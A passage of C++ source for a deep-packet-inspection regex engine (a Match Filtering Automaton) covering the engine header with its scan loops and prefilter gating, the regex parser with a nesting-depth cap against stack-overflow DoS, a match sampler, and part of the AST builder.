    mfa.delta_.emplace(mfa.dfa_, options.d2fa, &st.d2fa);
    mfa.dfa_.drop_table();
  }

  st.seconds = timer.seconds();
  return mfa;
}

}  // namespace mfa::core
