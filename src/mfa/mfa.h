// Match Filtering Automaton (paper Sec. III): the composite of a character
// DFA over decomposed pattern pieces and a stateful match filter.
//
// Construction (Fig. 1, grey path): regex splitter -> piece regexes + filter
// actions -> standard NFA/DFA construction over the pieces -> per-accept-
// state action sequences ordered by the canonical same-position phase order.
// Matching (Fig. 1, black path): the DFA consumes payload bytes; every time
// it enters an accepting state the filter engine runs the pre-resolved
// actions against the flow's w-bit memory and confirms or drops matches.
#pragma once

#include <cassert>
#include <cstdint>
#include <optional>
#include <string>
#include <vector>

#include "dfa/d2fa.h"
#include "dfa/dfa.h"
#include "filter/engine.h"
#include "regex/parser.h"
#include "simd/prefilter.h"
#include "split/splitter.h"

namespace mfa::core {

struct BuildOptions {
  split::Options split;
  dfa::BuildOptions dfa;
  /// Options the pattern sources were parsed with. Persisted in the MFAC
  /// artifact so load() re-parses piece sources under the same dialect
  /// (flags, caps) instead of silently assuming the defaults.
  regex::ParseOptions parse;
  /// Delta mode (Snort-class ruleset scale): compress the character DFA
  /// into a D2fa (default-transition chains + delta-encoded exceptions)
  /// and drop the dense table. Several-fold smaller memory image at a
  /// bounded per-byte chain cost; match semantics are identical. The
  /// prefilter proof is still derived from the dense table before it is
  /// dropped, so skip gating works unchanged.
  bool delta = false;
  dfa::D2faOptions d2fa;
};

struct BuildStats {
  split::Stats split;
  dfa::BuildStats dfa;
  dfa::D2faStats d2fa;   ///< populated only when BuildOptions::delta
  double seconds = 0.0;  ///< total construction wall time
};

class Mfa {
 public:
  /// Stable engine label used by telemetry exporters and bench reports.
  static constexpr const char* kEngineName = "mfa";

  [[nodiscard]] const dfa::Dfa& character_dfa() const { return dfa_; }
  /// True when the character DFA's transitions live in a delta-encoded
  /// D2fa (BuildOptions::delta) and the dense table has been dropped.
  [[nodiscard]] bool delta_mode() const { return delta_.has_value(); }
  /// The delta table, or nullptr in dense mode.
  [[nodiscard]] const dfa::D2fa* delta_table() const {
    return delta_ ? &*delta_ : nullptr;
  }
  [[nodiscard]] const filter::Program& program() const { return program_; }
  [[nodiscard]] const std::vector<split::Piece>& pieces() const { return pieces_; }
  [[nodiscard]] const regex::ParseOptions& parse_options() const { return parse_options_; }

  /// The SIMD literal prefilter compiled from the pieces (DESIGN.md §13).
  /// Derived data: rebuilt by build_mfa() and load(), never serialized.
  [[nodiscard]] const simd::Prefilter& prefilter() const { return prefilter_; }

  /// Engine match ids of accepting state `s`, pre-sorted into filter
  /// execution order (clears, then tests/reports, then sets).
  [[nodiscard]] std::pair<const std::uint32_t*, const std::uint32_t*> ordered_actions(
      std::uint32_t state) const {
    return {ordered_ids_.data() + ordered_offsets_[state],
            ordered_ids_.data() + ordered_offsets_[state + 1]};
  }

  /// Total memory image: compressed character-DFA table + filter program.
  /// (Sec. V-C: "almost all the memory image bytes used in MFA are for the
  /// DFA automaton, with filters taking ... less than 0.2%".)
  [[nodiscard]] std::size_t memory_image_bytes() const {
    const std::size_t table_bytes =
        delta_ ? delta_->memory_image_bytes()
               : dfa_.memory_image_bytes(/*full_alphabet=*/false);
    return table_bytes + program_.memory_image_bytes() +
           ordered_offsets_.size() * sizeof(std::uint32_t) +
           ordered_ids_.size() * sizeof(std::uint32_t);
  }

  /// Per-flow scan context footprint: DFA state + filter memory.
  [[nodiscard]] std::size_t context_bytes() const {
    return sizeof(std::uint32_t) +
           filter::Memory::context_bytes(program_.memory_bits, program_.counters,
                                         program_.position_slots);
  }

  // --- Engine/Context split (uniform API across all six engines) ---
  // The Mfa is the immutable, shareable Engine; the Context is the paper's
  // per-flow (q, m) pair. One Mfa serves any number of flows and threads.

  using Context = filter::ScanContext;

  [[nodiscard]] Context make_context() const {
    return Context{dfa_.start(),
                   filter::Memory(program_.counters, program_.position_slots,
                                  program_.memory_bits)};
  }

  void reset(Context& ctx) const {
    ctx.state = dfa_.start();
    ctx.memory.reset();
  }

  /// The flow's current automaton state (profiler state-visit sampling).
  [[nodiscard]] std::uint32_t context_state(const Context& ctx) const {
    return ctx.state;
  }

  /// States of the underlying character DFA (the space context_state()
  /// indexes into).
  [[nodiscard]] std::uint32_t state_count() const { return dfa_.state_count(); }

  /// Feed a chunk through `ctx`: DFA inner loop plus filter post-processing
  /// on match events only. Thread-safe with distinct contexts.
  template <typename Sink>
  void feed(Context& ctx, const std::uint8_t* data, std::size_t size, std::uint64_t base,
            Sink&& sink) const {
    if (delta_) {
      feed_delta(ctx.state, ctx.memory, data, size, base, sink);
      return;
    }
    const filter::Engine engine(program_);
    const std::uint32_t* table = dfa_.table_data();
    const std::uint8_t* cols = dfa_.byte_columns();
    const std::uint32_t ncols = dfa_.column_count();
    const std::uint32_t naccept = dfa_.accepting_state_count();
    std::uint32_t s = ctx.state;
    for (std::size_t i = 0; i < size; ++i) {
      s = table[static_cast<std::size_t>(s) * ncols + cols[data[i]]];
      if (s < naccept) {
        const auto [first, last] = ordered_actions(s);
        for (const auto* it = first; it != last; ++it)
          engine.on_match(*it, base + i, ctx.memory, sink);
      }
    }
    ctx.state = s;
  }

  /// Prefilter gate probe (works on Context and InlineContext alike): when
  /// the gate's DFA-level proof is armed, the flow sits in a skippable DFA
  /// state, no literal can complete across the chunk seam (boundary walk
  /// over the first window bytes), and the chunk body contains no literal
  /// occurrence (Teddy), the full scan may be skipped — on kSkip the
  /// context is already advanced past the chunk: only the last
  /// prefilter().window() bytes were replayed from the start state, which
  /// property (ii) of the proof makes land in the *exact* post-chunk
  /// state, and the taint check (property (i)) makes fire no match or
  /// filter action (so ctx memory is untouched, byte-identical to feed()).
  /// The replayed state is itself skippable for literal-rich sets, so a
  /// clean flow keeps skipping chunk after chunk. On kScan/kNone the
  /// context is untouched and the caller must feed().
  template <typename Ctx>
  [[nodiscard]] simd::Gate prefilter_gate(Ctx& ctx, const std::uint8_t* data,
                                          std::size_t size) const {
    if (!prefilter_.should_gate(ctx.state, size)) return simd::Gate::kNone;
    if (!prefilter_.boundary_quiet(ctx.state, data, size))
      return simd::Gate::kScan;
    if (prefilter_.matches(data, size)) return simd::Gate::kScan;
    ctx.state = replay_tail(data, size);
    return simd::Gate::kSkip;
  }

  /// Stateless literal probe for degraded scan modes (flow::ScanMode): true
  /// when the chunk *could* contain a match (literal present, or the
  /// prefilter never compiled and cannot prove absence). Unlike
  /// prefilter_gate() this consults no per-flow state and advances nothing —
  /// it is a pure detection signal for L1 sampled / L2 prefilter-only scans.
  [[nodiscard]] bool prefilter_probe(const std::uint8_t* data,
                                     std::size_t size) const {
    return prefilter_.probe(data, size);
  }

  /// Prefilter-gated feed: prefilter_gate() then a normal feed() unless the
  /// chunk was skipped. Returns true when the chunk was skipped.
  template <typename Ctx, typename Sink>
  bool feed_gated(Ctx& ctx, const std::uint8_t* data, std::size_t size,
                  std::uint64_t base, Sink&& sink) const {
    if (prefilter_gate(ctx, data, size) == simd::Gate::kSkip) return true;
    feed(ctx, data, size, base, sink);
    return false;
  }

  // --- optional InlineContext small-state API (tiered flow table) ---
  // When the filter program's whole memory fits one 64-bit word and uses no
  // counters or position slots, the per-flow (q, m) can live inline in a
  // 12-byte hot-table slot instead of a heap ScanContext. The two 32-bit
  // memory halves keep the struct 4-byte aligned at any slot offset.

  struct InlineContext {
    std::uint32_t state = 0;
    std::uint32_t mem_lo = 0;
    std::uint32_t mem_hi = 0;
  };
  static_assert(sizeof(InlineContext) == 12 && alignof(InlineContext) == 4);

  [[nodiscard]] std::uint32_t context_state(const InlineContext& ic) const {
    return ic.state;
  }

  /// True when this program's per-flow state fits an InlineContext.
  [[nodiscard]] bool inline_contexts_ok() const {
    return program_.memory_bits <= 64 && program_.counters == 0 &&
           program_.position_slots == 0;
  }

  [[nodiscard]] InlineContext make_inline_context() const {
    return InlineContext{dfa_.start(), 0, 0};
  }

  /// Widen an inline (q, m) into a full heap Context — exact, so a flow can
  /// migrate hot-slot state into the cold tier (e.g. when a hot-swapped
  /// ruleset no longer qualifies for inline contexts) without losing
  /// in-progress match state.
  [[nodiscard]] Context expand_inline(const InlineContext& ic) const {
    Context ctx = make_context();
    ctx.state = ic.state;
    const std::uint64_t m =
        (std::uint64_t{ic.mem_hi} << 32) | std::uint64_t{ic.mem_lo};
    for (std::int32_t i = 0; i < 64; ++i)
      if ((m >> i) & 1ULL) ctx.memory.set_bit(i);
    return ctx;
  }

  /// feed() against an inline context: identical scan loop, with filter
  /// actions running on the 64-bit inline memory view.
  template <typename Sink>
  void feed(InlineContext& ctx, const std::uint8_t* data, std::size_t size,
            std::uint64_t base, Sink&& sink) const {
    const filter::Engine engine(program_);
    filter::InlineMemory64 memory(ctx.mem_lo, ctx.mem_hi);
    if (delta_) {
      feed_delta(ctx.state, memory, data, size, base, sink);
      return;
    }
    const std::uint32_t* table = dfa_.table_data();
    const std::uint8_t* cols = dfa_.byte_columns();
    const std::uint32_t ncols = dfa_.column_count();
    const std::uint32_t naccept = dfa_.accepting_state_count();
    std::uint32_t s = ctx.state;
    for (std::size_t i = 0; i < size; ++i) {
      s = table[static_cast<std::size_t>(s) * ncols + cols[data[i]]];
      if (s < naccept) {
        const auto [first, last] = ordered_actions(s);
        for (const auto* it = first; it != last; ++it)
          engine.on_match(*it, base + i, memory, sink);
      }
    }
    ctx.state = s;
  }

  /// feed_many() over inline contexts: the interleaved kernel only touches
  /// ctx->state, so the same K-way scan drives hot-slot flows directly.
  template <typename Sink>
  void feed_many(scan::FeedJob<InlineContext>* jobs, std::size_t count, Sink&& sink,
                 std::size_t lanes = scan::kDefaultLanes) const {
    const filter::Engine engine(program_);
    const auto on_accept = [&](std::size_t job, std::uint32_t s, std::uint64_t end) {
      InlineContext& c = *jobs[job].ctx;
      filter::InlineMemory64 memory(c.mem_lo, c.mem_hi);
      const auto [first, last] = ordered_actions(s);
      for (const auto* it = first; it != last; ++it)
        engine.on_match(*it, end, memory,
                        [&](std::uint32_t id, std::uint64_t e) { sink(job, id, e); });
    };
    if (delta_) {
      // One job at a time, same as D2fa::feed_many: interleaving the
      // tagged chain walk regresses, and the per-job tagged loop keeps
      // byte/match order exactly feed()'s.
      for (std::size_t j = 0; j < count; ++j) {
        if (jobs[j].size == 0) continue;
        InlineContext& c = *jobs[j].ctx;
        filter::InlineMemory64 memory(c.mem_lo, c.mem_hi);
        feed_delta(c.state, memory, jobs[j].data, jobs[j].size, jobs[j].base,
                   [&](std::uint32_t id, std::uint64_t e) { sink(j, id, e); });
      }
      return;
    }
    simd::dense_interleaved_scan(dfa_.table_data(), dfa_.column_count(),
                                 dfa_.byte_columns(), dfa_.accepting_state_count(),
                                 jobs, count, lanes, std::move(on_accept));
  }

  using FeedJob = scan::FeedJob<Context>;

  /// K-way interleaved scan (see Dfa::feed_many): the character-DFA inner
  /// loop advances `lanes` flows per iteration; filter actions run on match
  /// events only, against the owning job's per-flow memory, so per-flow
  /// filter semantics are exactly feed()'s. sink(job_index, id, end_offset).
  template <typename Sink>
  void feed_many(FeedJob* jobs, std::size_t count, Sink&& sink,
                 std::size_t lanes = scan::kDefaultLanes) const {
    const filter::Engine engine(program_);
    const auto on_accept = [&](std::size_t job, std::uint32_t s, std::uint64_t end) {
      const auto [first, last] = ordered_actions(s);
      for (const auto* it = first; it != last; ++it)
        engine.on_match(*it, end, jobs[job].ctx->memory,
                        [&](std::uint32_t id, std::uint64_t e) { sink(job, id, e); });
    };
    if (delta_) {
      // One job at a time (see the InlineContext overload above).
      for (std::size_t j = 0; j < count; ++j) {
        if (jobs[j].size == 0) continue;
        feed_delta(jobs[j].ctx->state, jobs[j].ctx->memory, jobs[j].data,
                   jobs[j].size, jobs[j].base,
                   [&](std::uint32_t id, std::uint64_t e) { sink(j, id, e); });
      }
      return;
    }
    simd::dense_interleaved_scan(dfa_.table_data(), dfa_.column_count(),
                                 dfa_.byte_columns(), dfa_.accepting_state_count(),
                                 jobs, count, lanes, std::move(on_accept));
  }

  /// Persist the compiled automaton (character DFA + filter program +
  /// per-accept-state action order + piece sources) to a ".mfac" file so a
  /// deployment can compile once and load on every sensor.
  bool save(const std::string& path) const;
  static std::optional<Mfa> load(const std::string& path);

 private:
  friend std::optional<Mfa> build_mfa(const std::vector<nfa::PatternInput>&,
                                      const BuildOptions&, BuildStats*);

  /// Skipped-chunk state reconstruction: run the last window() bytes from
  /// the start state. Sound only under the gate proof (prefilter_gate
  /// checks it first): the ψ-determinism property makes this land in the
  /// exact state the full chunk would have produced, and the taint check
  /// guarantees the real flow fires no match or filter action inside the
  /// chunk. The replay itself reports nothing — it only computes a state —
  /// so a fictional accept on the start-to-tail walk (possible when the
  /// skip happened from a mid-flow state) is harmless.
  [[nodiscard]] std::uint32_t replay_tail(const std::uint8_t* data,
                                          std::size_t size) const {
    const std::size_t w = std::min(prefilter_.window(), size);
    std::uint32_t s = dfa_.start();
    if (delta_) {
      std::uint32_t v = delta_->tag_state(s);
      for (const std::uint8_t* p = data + (size - w); p != data + size; ++p)
        v = delta_->next_tagged(v, *p);
      return delta_->untag(v);
    }
    const std::uint32_t* table = dfa_.table_data();
    const std::uint8_t* cols = dfa_.byte_columns();
    const std::uint32_t ncols = dfa_.column_count();
    for (const std::uint8_t* p = data + (size - w); p != data + size; ++p)
      s = table[static_cast<std::size_t>(s) * ncols + cols[*p]];
    return s;
  }

  /// Delta-mode scan loop shared by both context flavors: identical match
  /// semantics to the dense loop, stepping on D2fa tagged states so a
  /// root-resident byte costs one dense load and the accept test is a bit
  /// check (see the tagged-state comment in d2fa.h).
  template <typename Memory, typename Sink>
  void feed_delta(std::uint32_t& state, Memory& memory, const std::uint8_t* data,
                  std::size_t size, std::uint64_t base, Sink&& sink) const {
    const filter::Engine engine(program_);
    const dfa::D2fa& d = *delta_;
    std::uint32_t v = d.tag_state(state);
    for (std::size_t i = 0; i < size; ++i) {
      v = d.next_tagged(v, data[i]);
      if (dfa::D2fa::tagged_accept(v)) [[unlikely]] {
        const auto [first, last] = ordered_actions(d.untag(v));
        for (const auto* it = first; it != last; ++it)
          engine.on_match(*it, base + i, memory, sink);
      }
    }
    state = d.untag(v);
  }

  dfa::Dfa dfa_;
  std::optional<dfa::D2fa> delta_;
  simd::Prefilter prefilter_;
  filter::Program program_;
  std::vector<split::Piece> pieces_;
  std::vector<std::uint32_t> ordered_offsets_;  // accept_states + 1
  std::vector<std::uint32_t> ordered_ids_;
  regex::ParseOptions parse_options_;
};

/// Compile a pattern set into an MFA. Returns nullopt if the piece DFA
/// exceeds the state cap (which decomposition makes rare — that is the
/// point of the paper).
std::optional<Mfa> build_mfa(const std::vector<nfa::PatternInput>& patterns,
                             const BuildOptions& options = {}, BuildStats* stats = nullptr);

/// Back-compat wrapper over the Engine/Context split (engine pointer + one
/// owned (q, m) Context) with the historical scan()/feed() surface.
class MfaScanner {
 public:
  explicit MfaScanner(const Mfa& mfa) : mfa_(&mfa), ctx_(mfa.make_context()) {}

  void reset() { mfa_->reset(ctx_); }

  template <typename Sink>
  void feed(const std::uint8_t* data, std::size_t size, std::uint64_t base, Sink&& sink) {
    mfa_->feed(ctx_, data, size, base, sink);
  }

  MatchVec scan(const std::uint8_t* data, std::size_t size) {
    reset();
    CollectingSink sink;
    feed(data, size, 0, sink);
    return std::move(sink.matches);
  }
  MatchVec scan(const std::string& data) {
    return scan(reinterpret_cast<const std::uint8_t*>(data.data()), data.size());
  }

  [[nodiscard]] std::size_t context_bytes() const { return mfa_->context_bytes(); }

 private:
  const Mfa* mfa_;
  Mfa::Context ctx_;
};

}  // namespace mfa::core
