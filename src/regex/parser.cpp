#include "regex/parser.h"

#include <cctype>
#include <cstdio>
#include <cstdlib>

namespace mfa::regex {

namespace {

/// Recursive-descent parser over the pattern bytes. Grammar:
///   alternation := concat ('|' concat)*
///   concat      := quantified*
///   quantified  := atom ('*' | '+' | '?' | '{n,m}')* ('?' ignored-lazy)
///   atom        := literal | '.' | class | '(' alternation ')' | escape
class Parser {
 public:
  Parser(std::string_view text, const ParseOptions& options)
      : text_(text), options_(options) {}

  ParseResult run() {
    ParseResult result;
    bool anchored = false;
    if (peek() == '^') {
      ++pos_;
      anchored = true;
    }
    NodePtr root = parse_alternation();
    if (failed_) {
      result.error = ParseError{err_pos_, err_msg_};
      return result;
    }
    if (pos_ != text_.size()) {
      result.error = ParseError{pos_, "unexpected character"};
      return result;
    }
    result.regex = Regex{std::move(root), anchored, std::string(text_)};
    return result;
  }

 private:
  [[nodiscard]] int peek(std::size_t ahead = 0) const {
    return pos_ + ahead < text_.size()
               ? static_cast<unsigned char>(text_[pos_ + ahead])
               : -1;
  }
  int take() { return pos_ < text_.size() ? static_cast<unsigned char>(text_[pos_++]) : -1; }

  NodePtr fail(std::string message) {
    if (!failed_) {
      failed_ = true;
      err_pos_ = pos_;
      err_msg_ = std::move(message);
    }
    return make_empty();
  }

  NodePtr parse_alternation() {
    std::vector<NodePtr> branches;
    branches.push_back(parse_concat());
    while (!failed_ && peek() == '|') {
      ++pos_;
      branches.push_back(parse_concat());
    }
    return make_alternate(std::move(branches));
  }

  NodePtr parse_concat() {
    std::vector<NodePtr> parts;
    while (!failed_) {
      const int c = peek();
      if (c == -1 || c == '|' || c == ')') break;
      parts.push_back(parse_quantified());
    }
    return make_concat(std::move(parts));
  }

  NodePtr parse_quantified() {
    NodePtr atom = parse_atom();
    while (!failed_) {
      const int c = peek();
      if (c == '*') {
        ++pos_;
        atom = make_star(std::move(atom));
      } else if (c == '+') {
        ++pos_;
        atom = make_plus(std::move(atom));
      } else if (c == '?') {
        ++pos_;
        atom = make_optional(std::move(atom));
      } else if (c == '{' && looks_like_counted_repeat()) {
        atom = parse_counted_repeat(std::move(atom));
      } else {
        break;
      }
      // A '?' directly after a quantifier is PCRE's lazy marker. Laziness
      // only affects capture/backtracking order, not the matched language,
      // so for automaton all-match semantics we accept and ignore it.
      if (peek() == '?') {
        ++pos_;
        break;
      }
    }
    return atom;
  }

  [[nodiscard]] bool looks_like_counted_repeat() const {
    // '{' only starts a quantifier if it is '{digits[,[digits]]}'.
    std::size_t i = pos_ + 1;
    if (i >= text_.size() || !std::isdigit(static_cast<unsigned char>(text_[i]))) return false;
    while (i < text_.size() && std::isdigit(static_cast<unsigned char>(text_[i]))) ++i;
    if (i < text_.size() && text_[i] == ',') {
      ++i;
      while (i < text_.size() && std::isdigit(static_cast<unsigned char>(text_[i]))) ++i;
    }
    return i < text_.size() && text_[i] == '}';
  }

  NodePtr parse_counted_repeat(NodePtr atom) {
    ++pos_;  // '{'
    int lo = parse_int();
    int hi = lo;
    if (peek() == ',') {
      ++pos_;
      hi = std::isdigit(static_cast<unsigned char>(peek())) ? parse_int() : -1;
    }
    if (take() != '}') return fail("expected '}' in counted repeat");
    if (hi >= 0 && hi < lo) return fail("counted repeat with max < min");
    const int cap = options_.max_counted_repeat;
    if (lo > cap || hi > cap)
      return fail("counted repeat exceeds expansion cap");
    return make_repeat(std::move(atom), lo, hi);
  }

  int parse_int() {
    int v = 0;
    while (std::isdigit(static_cast<unsigned char>(peek()))) v = v * 10 + (take() - '0');
    return v;
  }

  NodePtr parse_atom() {
    const int c = take();
    switch (c) {
      case -1:
        return fail("pattern ended where an atom was expected");
      case '.':
        return make_charset(CharClass::dot(options_.dotall));
      case '(': {
        // Support plain and non-capturing groups; captures are irrelevant
        // for match-at-position semantics. Depth is capped: each group
        // recurses through parse_alternation, so unchecked nesting would
        // let "((((…" overflow the C++ stack (DoS via rule upload).
        if (++depth_ > options_.max_nesting_depth)
          return fail("group nesting deeper than " +
                      std::to_string(options_.max_nesting_depth));
        if (peek() == '?') {
          if (peek(1) == ':') {
            pos_ += 2;
          } else {
            return fail("unsupported (?...) construct");
          }
        }
        NodePtr inner = parse_alternation();
        if (take() != ')') return fail("missing ')'");
        --depth_;
        return inner;
      }
      case '[':
        return parse_class();
      case '*':
      case '+':
      case '?':
        return fail("quantifier with nothing to repeat");
      case '^':
        return fail("'^' is only supported at the start of the pattern");
      case '$':
        return fail("'$' end anchors are not supported in streaming DPI matching");
      case '\\':
        return parse_escape(/*in_class=*/false);
      default:
        return make_charset(fold(CharClass::single(static_cast<unsigned char>(c))));
    }
  }

  CharClass fold(CharClass cc) const { return options_.icase ? cc.case_folded() : cc; }

  /// Shared escape handling; returns a CharSet node outside classes, and
  /// stores single-char/class results for use inside classes via out params.
  NodePtr parse_escape(bool in_class) {
    CharClass cc;
    if (!parse_escape_class(cc)) return fail(err_msg_.empty() ? "bad escape" : err_msg_);
    return make_charset(fold(cc));
  }

  bool parse_escape_class(CharClass& out) {
    const int c = take();
    switch (c) {
      case -1:
        err_msg_ = "pattern ends with a bare backslash";
        return false;
      case 'n': out = CharClass::single('\n'); return true;
      case 'r': out = CharClass::single('\r'); return true;
      case 't': out = CharClass::single('\t'); return true;
      case 'f': out = CharClass::single('\f'); return true;
      case 'v': out = CharClass::single('\v'); return true;
      case 'a': out = CharClass::single('\a'); return true;
      case '0': out = CharClass::single('\0'); return true;
      case 'e': out = CharClass::single(0x1b); return true;
      case 'd': out = CharClass::digits(); return true;
      case 'D': out = CharClass::digits().negated(); return true;
      case 'w': out = CharClass::word_chars(); return true;
      case 'W': out = CharClass::word_chars().negated(); return true;
      case 's': out = CharClass::whitespace(); return true;
      case 'S': out = CharClass::whitespace().negated(); return true;
      case 'x': {
        int value = 0;
        for (int i = 0; i < 2; ++i) {
          const int h = take();
          if (h >= '0' && h <= '9') value = value * 16 + (h - '0');
          else if (h >= 'a' && h <= 'f') value = value * 16 + (h - 'a' + 10);
          else if (h >= 'A' && h <= 'F') value = value * 16 + (h - 'A' + 10);
          else {
            err_msg_ = "\\x requires two hex digits";
            return false;
          }
        }
        out = CharClass::single(static_cast<unsigned char>(value));
        return true;
      }
      default:
        if (std::isalnum(c)) {
          err_msg_ = "unknown escape";
          return false;
        }
        out = CharClass::single(static_cast<unsigned char>(c));
        return true;
    }
  }

  /// "[:name:]" POSIX class bodies; `pos_` sits after the "[:".
  bool parse_posix_class(CharClass& out) {
    std::string name;
    while (peek() != -1 && peek() != ':') name += static_cast<char>(take());
    if (take() != ':' || take() != ']') {
      err_msg_ = "malformed [:posix:] class";
      return false;
    }
    if (name == "alpha") out = CharClass::range('a', 'z') | CharClass::range('A', 'Z');
    else if (name == "digit") out = CharClass::digits();
    else if (name == "alnum")
      out = CharClass::range('a', 'z') | CharClass::range('A', 'Z') | CharClass::digits();
    else if (name == "upper") out = CharClass::range('A', 'Z');
    else if (name == "lower") out = CharClass::range('a', 'z');
    else if (name == "space") out = CharClass::whitespace();
    else if (name == "xdigit")
      out = CharClass::digits() | CharClass::range('a', 'f') | CharClass::range('A', 'F');
    else if (name == "print") out = CharClass::range(0x20, 0x7e);
    else if (name == "graph") out = CharClass::range(0x21, 0x7e);
    else if (name == "cntrl") {
      out = CharClass::range(0x00, 0x1f);
      out.add(0x7f);
    } else if (name == "blank") {
      out = CharClass::single(' ');
      out.add('\t');
    } else if (name == "punct") {
      out = CharClass::range(0x21, 0x2f) | CharClass::range(0x3a, 0x40) |
            CharClass::range(0x5b, 0x60) | CharClass::range(0x7b, 0x7e);
    } else {
      err_msg_ = "unknown [:posix:] class '" + name + "'";
      return false;
    }
    return true;
  }

  NodePtr parse_class() {
    CharClass cc;
    bool negate = false;
    if (peek() == '^') {
      ++pos_;
      negate = true;
    }
    bool first = true;
    while (true) {
      int c = take();
      if (c == -1) return fail("unterminated character class");
      if (c == ']' && !first) break;
      first = false;

      CharClass item;
      bool single_byte = true;
      unsigned char lo = 0;
      if (c == '[' && peek() == ':') {
        ++pos_;  // ':'
        if (!parse_posix_class(item)) return fail(err_msg_);
        cc |= item;
        continue;
      }
      if (c == '\\') {
        if (!parse_escape_class(item)) return fail(err_msg_);
        single_byte = item.count() == 1;
        if (single_byte) lo = item.first();
      } else {
        lo = static_cast<unsigned char>(c);
        item = CharClass::single(lo);
      }

      // Range 'a-z'; '-' before ']' or after a multi-char escape is literal.
      if (single_byte && peek() == '-' && peek(1) != ']' && peek(1) != -1) {
        ++pos_;  // '-'
        int hc = take();
        unsigned char hi;
        if (hc == '\\') {
          CharClass hi_cc;
          if (!parse_escape_class(hi_cc)) return fail(err_msg_);
          if (hi_cc.count() != 1) return fail("range endpoint must be a single character");
          hi = hi_cc.first();
        } else {
          hi = static_cast<unsigned char>(hc);
        }
        if (hi < lo) return fail("character range out of order");
        item = CharClass::range(lo, hi);
      }
      cc |= item;
    }
    if (negate) cc = cc.negated();
    if (cc.empty()) return fail("empty character class");
    return make_charset(fold(cc));
  }

  std::string_view text_;
  ParseOptions options_;
  std::size_t pos_ = 0;
  int depth_ = 0;  ///< open-group nesting, capped by max_nesting_depth
  bool failed_ = false;
  std::size_t err_pos_ = 0;
  std::string err_msg_;
};

/// Strip /pattern/flags wrapping, updating options from the flags.
std::string_view unwrap_slashes(std::string_view pattern, ParseOptions& options,
                                bool& bad_flags, char& bad_flag_char) {
  bad_flags = false;
  if (pattern.size() < 2 || pattern.front() != '/') return pattern;
  const std::size_t close = pattern.rfind('/');
  if (close == 0) return pattern;
  const std::string_view flags = pattern.substr(close + 1);
  for (const char f : flags) {
    switch (f) {
      case 'i': options.icase = true; break;
      case 's': options.dotall = true; break;
      case 'm':  // multiline: no-op without '$' support
        break;
      default:
        bad_flags = true;
        bad_flag_char = f;
        return pattern;
    }
  }
  return pattern.substr(1, close - 1);
}

}  // namespace

ParseResult parse(std::string_view pattern, const ParseOptions& options) {
  ParseOptions effective = options;
  bool bad_flags = false;
  char bad_flag = '\0';
  const std::string_view body = unwrap_slashes(pattern, effective, bad_flags, bad_flag);
  if (bad_flags) {
    ParseResult r;
    r.error = ParseError{pattern.size(), std::string("unsupported flag '") + bad_flag + "'"};
    return r;
  }
  return Parser(body, effective).run();
}

Regex parse_or_die(std::string_view pattern, const ParseOptions& options) {
  ParseResult r = parse(pattern, options);
  if (!r.ok()) {
    std::fprintf(stderr, "regex parse error in \"%.*s\" at offset %zu: %s\n",
                 static_cast<int>(pattern.size()), pattern.data(), r.error->offset,
                 r.error->message.c_str());
    std::abort();
  }
  return *std::move(r.regex);
}

}  // namespace mfa::regex
