#include "regex/sample.h"

namespace mfa::regex {

namespace {

char sample_char(const CharClass& cc, util::Rng& rng, const SampleOptions& options) {
  if (options.prefer_printable) {
    CharClass printable = cc & CharClass::range(0x20, 0x7e);
    if (!printable.empty()) {
      const std::size_t n = printable.count();
      std::size_t pick = rng.below(n);
      char out = 0;
      printable.for_each([&](unsigned char c) {
        if (pick-- == 0) out = static_cast<char>(c);
      });
      return out;
    }
  }
  const std::size_t n = cc.count();
  std::size_t pick = rng.below(n);
  char out = 0;
  cc.for_each([&](unsigned char c) {
    if (pick-- == 0) out = static_cast<char>(c);
  });
  return out;
}

void sample_into(const Node& node, util::Rng& rng, const SampleOptions& options,
                 std::string& out) {
  switch (node.kind) {
    case NodeKind::Empty:
      return;
    case NodeKind::CharSet:
      out += sample_char(node.cc, rng, options);
      return;
    case NodeKind::Concat:
      for (const auto& c : node.children) sample_into(*c, rng, options, out);
      return;
    case NodeKind::Alternate:
      sample_into(*node.children[rng.below(node.children.size())], rng, options, out);
      return;
    case NodeKind::Star: {
      const auto reps = rng.below(static_cast<std::uint64_t>(options.star_max) + 1);
      for (std::uint64_t i = 0; i < reps; ++i)
        sample_into(*node.children.front(), rng, options, out);
      return;
    }
    case NodeKind::Plus: {
      const auto reps = 1 + rng.below(static_cast<std::uint64_t>(options.star_max));
      for (std::uint64_t i = 0; i < reps; ++i)
        sample_into(*node.children.front(), rng, options, out);
      return;
    }
    case NodeKind::Optional:
      if (rng.chance(0.5)) sample_into(*node.children.front(), rng, options, out);
      return;
    case NodeKind::Repeat: {
      const int hi = node.rep_max < 0 ? node.rep_min + options.star_max : node.rep_max;
      const auto reps =
          node.rep_min + static_cast<int>(rng.below(
                             static_cast<std::uint64_t>(hi - node.rep_min) + 1));
      for (int i = 0; i < reps; ++i) sample_into(*node.children.front(), rng, options, out);
      return;
    }
  }
}

}  // namespace

std::string sample_match(const Node& node, util::Rng& rng, const SampleOptions& options) {
  std::string out;
  sample_into(node, rng, options, out);
  return out;
}

}  // namespace mfa::regex
