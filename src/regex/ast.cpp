#include "regex/ast.h"

#include <algorithm>
#include <sstream>

namespace mfa::regex {

NodePtr make_empty() {
  static const NodePtr empty = std::make_shared<Node>();
  return empty;
}

NodePtr make_charset(CharClass cc) {
  auto n = std::make_shared<Node>();
  n->kind = NodeKind::CharSet;
  n->cc = cc;
  return n;
}

NodePtr make_literal(std::string_view text, bool icase) {
  std::vector<NodePtr> parts;
  parts.reserve(text.size());
  for (const char c : text) {
    CharClass cc = CharClass::single(static_cast<unsigned char>(c));
    if (icase) cc = cc.case_folded();
    parts.push_back(make_charset(cc));
  }
  return make_concat(std::move(parts));
}

NodePtr make_concat(std::vector<NodePtr> children) {
  std::vector<NodePtr> flat;
  for (auto& c : children) {
    if (!c || c->kind == NodeKind::Empty) continue;
    if (c->kind == NodeKind::Concat) {
      flat.insert(flat.end(), c->children.begin(), c->children.end());
    } else {
      flat.push_back(std::move(c));
    }
  }
  if (flat.empty()) return make_empty();
  if (flat.size() == 1) return flat.front();
  auto n = std::make_shared<Node>();
  n->kind = NodeKind::Concat;
  n->children = std::move(flat);
  return n;
}

NodePtr make_alternate(std::vector<NodePtr> children) {
  std::vector<NodePtr> flat;
  for (auto& c : children) {
    if (!c) continue;
    if (c->kind == NodeKind::Alternate) {
      flat.insert(flat.end(), c->children.begin(), c->children.end());
    } else {
      flat.push_back(std::move(c));
    }
  }
  if (flat.empty()) return make_empty();
  if (flat.size() == 1) return flat.front();
